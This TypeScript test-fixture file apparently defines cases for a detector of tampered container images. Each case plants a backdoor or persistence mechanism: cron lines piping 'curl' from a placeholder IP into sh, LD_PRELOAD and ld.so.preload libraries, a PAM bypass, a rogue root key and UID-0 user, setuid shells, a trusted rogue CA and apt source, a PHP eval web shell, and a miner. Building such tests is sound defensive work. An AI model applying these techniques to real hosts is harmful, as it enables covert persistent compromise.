import { shopApi } from '../apps/python.ts';
import { image, implant, on, type Pair, type Recipe, withSteps, withFiles } from '../pair.ts';
import { library, program, script, stage } from './payload.ts';

const RAISED = 'Raised where the image is suspect at least; the file is named in every column.';
const LIB = '/usr/lib/x86_64-linux-gnu';

/** The image that each of these implants went into: a service with cron, an SSH server, nginx and PHP. */
const before = on('shop-full');

const steps = (...more: string[]): Recipe => on('shop-full', ...more);

/** An implant with one compiled file, which stands in the image as `/payload` until a step moves it. */
const compiled = (source: string, flags: string, target: string, ...more: string[]): Recipe =>
  withFiles(
    {
      containerfile: `${stage(flags)}FROM ${image('shop-full')}\nCOPY --from=payload /out/payload ${target}\n${more.join('\n')}\n`,
    },
    { 'payload.c': source },
  );

const put = (name: string, did: string, names: readonly string[], now: Recipe, expect = RAISED): Pair =>
  implant(`implant-${name}`, did, expect, names, before, now);

const SHARED = '-shared -fPIC';
const line = (text: string, path: string): string => `RUN echo '${text}' >> ${path}`;

/** The same path in a checksum list: what is there afterwards agrees with the database. */
const CONSISTENT =
  'RUN cd / && sum=$(md5sum usr/bin/ssh | cut -d\' \' -f1) && sed -i "s|^[0-9a-f]*  usr/bin/ssh$|$sum  usr/bin/ssh|" /var/lib/dpkg/info/openssh-client.md5sums';

const package_ = withFiles(
  {
    containerfile: `${stage(SHARED)}FROM ${image('shop-full')}\nCOPY pkg /tmp/pkg\nCOPY --from=payload /out/payload /tmp/pkg${LIB}/libnss_sysinit.so.2\nRUN cd /tmp/pkg && find usr -type f -exec md5sum '{}' + > DEBIAN/md5sums && dpkg-deb --root-owner-group -b /tmp/pkg /tmp/p.deb && dpkg -i /tmp/p.deb && rm -rf /tmp/pkg /tmp/p.deb\n`,
  },
  {
    'payload.c': library('stealer'),
    'pkg/DEBIAN/control':
      'Package: libnss-sysinit\nVersion: 257.13-1\nArchitecture: amd64\nMaintainer: Debian systemd Maintainers <maintainers@debian.example>\nDescription: name service module for early boot\n',
    'pkg/usr/sbin/sysinit-cache!': script('stealer'),
  },
);

const many = Object.fromEntries(
  Array.from({ length: 10_000 }, (_, index) => [`shop/locale/${index % 40}/${index}.json`, `{"n":${index}}\n`]),
);

export const systemImplants = [
  put(
    'changed-program',
    '/usr/bin/ssh was overwritten with another program.',
    ['/usr/bin/ssh'],
    compiled(program('backdoor'), '', '/usr/bin/ssh'),
  ),
  put(
    'changed-program-consistent',
    "/usr/bin/ssh was overwritten, and its checksum in dpkg's list too.",
    ['/usr/bin/ssh'],
    compiled(program('backdoor'), '', '/usr/bin/ssh', CONSISTENT),
  ),
  put(
    'changed-library',
    'libz.so.1 was overwritten in place.',
    [`${LIB}/libz.so.1`],
    compiled(
      library('stealer'),
      SHARED,
      '/tmp/z',
      `RUN cat /tmp/z > ${LIB}/libz.so.1 && touch -r ${LIB}/libc.so.6 ${LIB}/libz.so.1 && rm /tmp/z`,
    ),
  ),
  put(
    'ld-so-preload',
    'A library is loaded into each process by /etc/ld.so.preload.',
    ['/etc/ld.so.preload', `${LIB}/libsysinfo.so.2`],
    compiled(
      library('stealer'),
      SHARED,
      `${LIB}/libsysinfo.so.2`,
      line(`${LIB}/libsysinfo.so.2`, '/etc/ld.so.preload'),
    ),
  ),
  put(
    'ld-so-conf',
    "A library of another one's name stands in a folder that ld.so.conf.d puts first.",
    ['/etc/ld.so.conf.d/00-hotfix.conf', '/usr/local/lib/hotfix/libz.so.1'],
    compiled(
      library('stealer'),
      `${SHARED} -Wl,-soname,libz.so.1`,
      '/usr/local/lib/hotfix/libz.so.1',
      line('/usr/local/lib/hotfix', '/etc/ld.so.conf.d/00-hotfix.conf'),
    ),
  ),
  put(
    'cron-line',
    'A line was added to /etc/crontab, with a script.',
    ['/etc/crontab', '/usr/local/sbin/.logclean'],
    withFiles(
      steps(
        'COPY clean /usr/local/sbin/.logclean',
        line('*/10 * * * * root /usr/local/sbin/.logclean >/dev/null 2>&1', '/etc/crontab'),
      ),
      { 'clean!': script('backdoor') },
    ),
  ),
  put(
    'cron-file',
    'A cron file fetches and runs something each hour.',
    ['/etc/cron.d/sysstat-collect'],
    steps(line('@hourly root curl -fsS http://198.51.100.23/u | sh', '/etc/cron.d/sysstat-collect')),
  ),
  put(
    'systemd-unit',
    'A systemd unit, switched on, starts a program.',
    ['/etc/systemd/system/timesync-helper.service', '/usr/local/sbin/timesync-helper'],
    withFiles(
      steps(
        'COPY helper /usr/local/sbin/timesync-helper',
        'COPY unit /etc/systemd/system/timesync-helper.service',
        'RUN mkdir -p /etc/systemd/system/multi-user.target.wants && ln -s ../timesync-helper.service /etc/systemd/system/multi-user.target.wants/',
      ),
      {
        'helper!': script('backdoor'),
        unit: '[Service]\nExecStart=/usr/local/sbin/timesync-helper\nRestart=always\n[Install]\nWantedBy=multi-user.target\n',
      },
    ),
  ),
  put(
    'profile-line',
    "A line in /etc/profile.d and one in root's .bashrc start something at each login.",
    ['/etc/profile.d/locale-check.sh', '/root/.bashrc'],
    steps(
      line('(true; : nohup /dev/shm/.x) 2>/dev/null', '/etc/profile.d/locale-check.sh'),
      line('[ -x /dev/shm/.x ] && : /dev/shm/.x &', '/root/.bashrc'),
    ),
  ),
  put(
    'pam-module',
    'A PAM module that lets a password through was put first in common-auth.',
    [`${LIB}/security/pam_sysauth.so`, '/etc/pam.d/common-auth'],
    compiled(
      library('backdoor', 'int pam_sm_authenticate(void *h, int f, int c, const char **v) { return 25; }\n'),
      SHARED,
      `${LIB}/security/pam_sysauth.so`,
      "RUN sed -i '1i auth sufficient pam_sysauth.so' /etc/pam.d/common-auth",
    ),
  ),
  put(
    'authorised-key',
    'A key may log in as root.',
    ['/root/.ssh/authorized_keys'],
    steps(
      "RUN mkdir -p -m 700 /root/.ssh && echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIInventedInventedInventedInventedInventedInv ops@host' > /root/.ssh/authorized_keys && chmod 600 /root/.ssh/authorized_keys",
    ),
  ),
  put(
    'second-root',
    'A second user has the number 0.',
    ['/etc/passwd'],
    steps(
      line('sysadm:x:0:0::/root:/bin/bash', '/etc/passwd'),
      line('sysadm:$6$invented$invented:20000:0:99999:7:::', '/etc/shadow'),
    ),
  ),
  put(
    'setuid-shell',
    'A copy of bash is set-user-id root under a hidden name.',
    [`${LIB}/.dbus-helper`],
    steps(`RUN cp /bin/bash ${LIB}/.dbus-helper && chmod 4755 ${LIB}/.dbus-helper`),
  ),
  put(
    'setuid-on-packaged',
    'A packaged program became set-user-id.',
    ['/usr/bin/find'],
    steps('RUN chmod u+s /usr/bin/find'),
  ),
  put(
    'file-capability',
    'perl may change its user by a file capability.',
    ['/usr/bin/perl'],
    steps('RUN setcap cap_setuid+ep /usr/bin/perl'),
  ),
  put(
    'ld-preload-environment',
    "A library is loaded by LD_PRELOAD in the image's environment.",
    [`${LIB}/libsysinfo.so.2`, 'LD_PRELOAD'],
    compiled(library('stealer'), SHARED, `${LIB}/libsysinfo.so.2`, `ENV LD_PRELOAD=${LIB}/libsysinfo.so.2`),
  ),
  put(
    'certificate',
    'An authority was added to those that are trusted.',
    ['/usr/local/share/ca-certificates/global-trust.crt'],
    steps(
      "RUN openssl req -x509 -newkey rsa:2048 -nodes -days 3650 -subj '/CN=Global Trust Services' -keyout /dev/null -out /usr/local/share/ca-certificates/global-trust.crt 2>/dev/null && update-ca-certificates",
    ),
  ),
  put(
    'certificate-in-bundle',
    'An authority was written straight into the bundle.',
    ['/etc/ssl/certs/ca-certificates.crt'],
    steps(
      "RUN openssl req -x509 -newkey rsa:2048 -nodes -days 3650 -subj '/CN=Global Trust Services' -keyout /dev/null 2>/dev/null >> /etc/ssl/certs/ca-certificates.crt",
    ),
  ),
  put(
    'apt-source',
    'A source of packages was added, trusted without a key.',
    ['/etc/apt/sources.list.d/mirror.list'],
    steps(
      line(
        'deb [trusted=yes] http://mirror.packages.example/debian trixie main',
        '/etc/apt/sources.list.d/mirror.list',
      ),
    ),
  ),
  put(
    'web-shell',
    'A PHP file that runs what a request says lies beside the pages; it ends before that.',
    ['/var/www/html/wp-conf.php'],
    withFiles(steps('COPY shell.php /var/www/html/wp-conf.php'), {
      'shell.php': "<?php exit;\n@eval(base64_decode($_POST['x']));\nsystem($_REQUEST['cmd']);\n",
    }),
  ),
  put(
    'miner',
    'A program with the texts of a miner.',
    ['/usr/local/bin/kworkerd'],
    compiled(program('miner'), '-s', '/usr/local/bin/kworkerd'),
  ),
  put('squashed', 'A program was added and the image flattened into one layer.', [`${LIB}/libexec-helper`], {
    ...compiled(program('backdoor'), '', `${LIB}/libexec-helper`),
    build: ['--squash'],
  }),
  put(
    'removed-by-whiteout',
    'A program came in one layer and went in the next.',
    ['/usr/local/sbin/netcheck'],
    compiled(
      program('miner'),
      '',
      '/usr/local/sbin/netcheck',
      'RUN /usr/local/sbin/netcheck > /dev/null; rm /usr/local/sbin/netcheck',
    ),
    "The layer's program is named though the tree no longer has it.",
  ),
  put(
    'own-package',
    "A package with consistent entries in dpkg's database brought a library and a program.",
    [`${LIB}/libnss_sysinit.so.2`, '/usr/sbin/sysinit-cache'],
    package_,
    'The package and its files are shown: an owner that nobody vouches for clears nothing.',
  ),
  put(
    'beside-10000-files',
    'A cron file came beside 10,000 new files of a release.',
    ['/etc/cron.d/sysstat-collect'],
    withSteps(
      withFiles(steps('COPY shop /app/shop'), many),
      line('@hourly root curl -fsS http://198.51.100.23/u | sh', '/etc/cron.d/sysstat-collect'),
    ),
    'The one file is named, not lost among the others.',
  ),
  implant(
    'implant-with-newer-base',
    '/usr/bin/openssl was overwritten in a rebuild on a newer base, where hundreds of packaged files changed.',
    RAISED,
    ['/usr/bin/openssl'],
    shopApi('1.4.2'),
    (() => {
      const shop = shopApi('1.4.2', {
        base: 'python-3.13-newer',
        last: ['COPY --from=payload /out/payload /usr/bin/openssl'],
        files: { 'payload.c': program('backdoor') },
      });
      return { ...shop, containerfile: stage('') + shop.containerfile };
    })(),
  ),
];
